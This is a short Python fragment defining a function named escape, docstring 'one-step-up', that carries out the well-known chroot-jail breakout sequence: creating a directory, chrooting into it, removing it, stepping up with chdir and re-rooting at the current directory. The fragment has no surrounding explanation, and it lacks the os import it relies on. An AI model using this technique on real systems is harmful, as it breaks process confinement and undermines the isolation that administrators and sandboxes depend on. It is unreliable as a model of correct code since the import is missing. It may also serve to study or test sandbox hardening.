"""escape: one-step-up"""


def escape():
    os.chdir("/")
    os.mkdir("door")
    os.chroot("door")
    os.rmdir("door")
    os.chdir("..")
    os.chroot(".")
